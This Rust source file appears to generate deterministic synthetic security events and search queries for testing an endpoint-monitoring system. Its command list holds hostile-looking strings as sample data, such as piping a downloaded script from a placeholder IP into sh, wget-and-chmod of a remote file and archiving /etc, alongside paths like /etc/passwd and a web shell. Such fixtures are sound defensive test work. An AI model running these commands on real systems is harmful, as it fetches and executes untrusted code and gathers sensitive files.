//! Events and queries that look like real ones and are the same every time.

use yinglong_model::{
    AgentId, Event, EventData, EventId, Timestamp,
    event::{
        Connection, Direction, Dns, Exit, File, Login, Loss, Process, Protocol, Syscall, System,
    },
    id::Epoch,
};

/// A small deterministic generator (splitmix64).
#[derive(Debug, Clone)]
pub struct Random(u64);

impl Random {
    /// Starts a sequence.
    pub const fn new(seed: u64) -> Self {
        Self(seed)
    }

    /// The next number.
    pub const fn number(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number below `end`.
    pub const fn below(&mut self, end: u64) -> u64 {
        self.number() % end
    }

    /// One of the choices.
    pub fn pick<'a>(&mut self, choices: &[&'a str]) -> &'a str {
        let index = usize::try_from(self.below(choices.len() as u64)).unwrap_or_default();
        choices.get(index).copied().unwrap_or_default()
    }
}

const NAMES: [&str; 8] = [
    "/usr/bin/curl",
    "/usr/bin/Curl",
    "/bin/sh",
    "/usr/bin/python3.11",
    "C:\\Windows\\System32\\cmd.exe",
    "/opt/应龙/bin/агент",
    "/usr/sbin/sshd",
    "",
];
const COMMANDS: [&str; 8] = [
    "curl -s http://192.0.2.9/x.sh | sh",
    "sh -c 'wget http://198.51.100.7/a; chmod +x a'",
    "python3 -m http.server 8000",
    "cmd /c whoami",
    "echo ÄRGER ΣΊΣΥΦΟΣ",
    "tar czf /tmp/b.tgz /etc",
    "-- --",
    "",
];
const ADDRESSES: [&str; 5] = [
    "192.0.2.1",
    "192.0.2.10",
    "198.51.100.7",
    "10.0.0.1",
    "2001:db8::1",
];
const HOSTS: [&str; 4] = ["web-1", "Web-1", "db-2", "büro"];
const USERS: [&str; 3] = ["root", "www-data", "alice"];
const ACTIONS: [&str; 4] = ["CREATE", "CREATE|WRITE", "REMOVE", "CHMOD"];

/// 2026-01-31T20:00:00Z: events soon cross a day, a month and a partition.
const START_SECS: i64 = 1_769_889_600;

/// The `number`-th event of a sequence. It arrives 40 s after the one before it; event times lie
/// around the arrival, repeat, and are not in order.
pub fn event(number: u64, random: &mut Random) -> Event {
    let host = random.below(4);
    let agent_id = AgentId::from_bits(u128::from(host) + 1);
    let arrival = START_SECS + i64::try_from(number).unwrap_or_default() * 40;
    let delay = i64::try_from(random.below(20)).unwrap_or_default() * 60;
    let time = Timestamp::from_secs((arrival - delay) / 60 * 60);
    Event {
        id: EventId::derive(&agent_id, Epoch(1), number + 1),
        ip: random.pick(&ADDRESSES).to_owned(),
        hostname: random.pick(&HOSTS).to_owned(),
        system: if host == 3 {
            System::Windows
        } else {
            System::Linux
        },
        agent_id,
        seq: number + 1,
        time,
        observed_at: time,
        ingested_at: Timestamp::from_secs(arrival),
        data: data(random),
    }
}

fn data(random: &mut Random) -> EventData {
    let small = |random: &mut Random| u32::try_from(random.below(5000)).unwrap_or_default();
    match random.below(8) {
        0 => EventData::Process(Box::new(Process {
            name: random.pick(&NAMES).to_owned(),
            command: random.pick(&COMMANDS).to_owned(),
            pid: small(random),
            ppid: 1,
            parentname: random.pick(&["bash", "systemd", "sshd"]).to_owned(),
            info: "PWD=/root USER=root".to_owned(),
            user: (random.below(2) == 0).then(|| random.pick(&USERS).to_owned()),
            exit_code: (random.below(4) == 0).then_some(-1),
            ancestors: vec!["/bin/sh".to_owned(), "/usr/sbin/sshd".to_owned()],
            ..Process::default()
        })),
        1 => {
            let remote_ip = random.pick(&ADDRESSES).to_owned();
            EventData::Connection(Connection {
                dir: if random.below(2) == 0 {
                    Direction::In
                } else {
                    Direction::Out
                },
                protocol: Protocol::Tcp,
                local: "10.0.0.1:40000".to_owned(),
                remote: format!("{remote_ip}:{}", random.pick(&["22", "80", "443"])),
                remote_ip,
                name: random.pick(&NAMES).to_owned(),
                pid: small(random),
                ..Connection::default()
            })
        }
        2 => EventData::File(Box::new(File {
            action: random.pick(&ACTIONS).to_owned(),
            path: random
                .pick(&["/etc/passwd", "/tmp/a b.sh", "/var/www/shell.php"])
                .to_owned(),
            hash: format!("{:032x}", random.below(20)),
            user: random.pick(&USERS).to_owned(),
            size: Some(random.below(1 << 40)),
            ..File::default()
        })),
        3 => EventData::Dns(Box::new(Dns {
            query: random
                .pick(&["example.org", "a.example.org", "kühl.example"])
                .to_owned(),
            qtype: random.pick(&["A", "AAAA", "TXT"]).to_owned(),
            rcode: random.pick(&["NOERROR", "NXDOMAIN", ""]).to_owned(),
            answers: vec!["c.example.org".to_owned(), "192.0.2.1".to_owned()],
            server: "10.0.0.53:53".to_owned(),
            protocol: Protocol::Udp,
            name: random.pick(&NAMES).to_owned(),
            pid: small(random),
            ..Dns::default()
        })),
        4 => EventData::Syscall(Box::new(Syscall {
            call: random.pick(&["ptrace", "mount", "bpf"]).to_owned(),
            success: random.below(2) == 0,
            errno: random.pick(&["", "EPERM"]).to_owned(),
            target: random.pick(&["/mnt/a b", "/usr/sbin/sshd"]).to_owned(),
            name: random.pick(&NAMES).to_owned(),
            pid: small(random),
            ppid: 1,
            auid: (random.below(2) == 0).then_some(1000),
            ..Syscall::default()
        })),
        5 => EventData::Exit(Box::new(Exit {
            name: random.pick(&NAMES).to_owned(),
            command: random.pick(&COMMANDS).to_owned(),
            pid: small(random),
            ppid: 1,
            exit_code: if random.below(2) == 0 { 0 } else { 139 },
            signal: (random.below(2) == 0).then(|| "SIGSEGV".to_owned()),
            core_dumped: (random.below(4) == 0).then_some(true),
            duration_ms: Some(random.below(100_000)),
            ..Exit::default()
        })),
        6 => EventData::Loss(Box::new(Loss {
            stream: random.pick(&["connection", "process"]).to_owned(),
            reason: random.pick(&["ring_full", "over_share"]).to_owned(),
            count: random.below(200),
            from: Timestamp::from_secs(1_764_000_000),
            to: Timestamp::from_secs(1_764_000_001),
            cgroup: (random.below(2) == 0).then(|| "/a/b".to_owned()),
            ..Loss::default()
        })),
        _ => EventData::Loginlog(Login {
            username: random.pick(&USERS).to_owned(),
            remote: random.pick(&ADDRESSES).to_owned(),
            status: random.below(3) == 0,
            hostname: random.pick(&HOSTS).to_owned(),
            ..Login::default()
        }),
    }
}

/// The first events of a sequence.
pub fn events(seed: u64, number: u64) -> Vec<Event> {
    let mut random = Random::new(seed);
    (0..number).map(|n| event(n, &mut random)).collect()
}

/// A query with up to three conditions, of every form, that often finds something.
pub fn query_text(random: &mut Random) -> String {
    let kind = random.pick(&[
        "process",
        "connection",
        "file",
        "loginlog",
        "dns",
        "syscall",
        "exit",
        "loss",
    ]);
    let mut text = format!("type:{kind}");
    for _ in 0..random.below(4) {
        let condition = match random.below(3) {
            0 => random.pick(&[
                "ip:192.0.2.1",
                "hostname:web-1",
                "hostname:BÜRO",
                "system:windows",
                "agent_id:00000000000000000000000000000001",
                "all:root",
                "all:curl",
                "all:192",
                "all:/^web/",
                "all.keyword:root",
                "all:>4000",
                "hostname:/^web/",
                "ip.keyword:10.0.0.1",
            ]),
            _ => random.pick(match kind {
                "process" => &[
                    "name:curl",
                    "name.keyword:/usr/bin/curl",
                    "name.keyword:",
                    "name:агент",
                    "command:sh curl",
                    r"command:/\|\s*sh/",
                    "command:/ärger/",
                    "command:σίσυφοσ",
                    "pid:>2500",
                    "pid:<=100",
                    "exit_code:<0",
                    "exit_code:/-/",
                    "user:root",
                    "ancestors:sshd",
                    r"ancestors.keyword:/bin/sh\|/usr/sbin/sshd",
                    "parentname:BASH",
                    "tty:pts",
                ],
                "connection" => &[
                    "dir:in",
                    "remote:192.0.2.1 443",
                    "remote.keyword:192.0.2.1:443",
                    "remote_ip:198.51.100.7",
                    "remote:/:(22\\|80)$/",
                    "pid:>=0",
                    "name:sshd",
                    "data.name:sh",
                ],
                "file" => &[
                    "action:create",
                    r"action.keyword:CREATE\|WRITE",
                    "path:etc passwd",
                    "path:/ /",
                    "size:>549755813888",
                    "user:alice",
                    "hash:00000000000000000000000000000003",
                    "web:true",
                ],
                "dns" => &[
                    "query:example",
                    "query.keyword:example.org",
                    r"query:/^a\./",
                    "query:KÜHL",
                    "qtype:txt",
                    "rcode.keyword:NXDOMAIN",
                    "rcode.keyword:",
                    "answers:192.0.2.1",
                    r"answers.keyword:c.example.org\|192.0.2.1",
                    "server:10.0.0.53 53",
                    "pid:<2500",
                ],
                "loss" => &[
                    "stream:connection",
                    "reason.keyword:over_share",
                    "data.count:>100",
                    "cgroup:/a/b",
                ],
                "syscall" => &[
                    "call:ptrace",
                    "success:true",
                    "errno.keyword:EPERM",
                    "target:sshd",
                    "name:curl",
                    "auid:>=1000",
                    "tty:pts",
                ],
                "exit" => &[
                    "exit_code:>0",
                    "signal:sigsegv",
                    "signal.keyword:SIGSEGV",
                    "core_dumped:true",
                    "duration_ms:<50000",
                    "name:curl",
                ],
                _ => &[
                    "username:root",
                    "status:true",
                    "status.keyword:false",
                    "data.hostname:web",
                    "data.hostname.keyword:Web-1",
                    "remote:10.0.0.1",
                ],
            }),
        };
        text.push_str(" | ");
        text.push_str(condition);
    }
    text
}
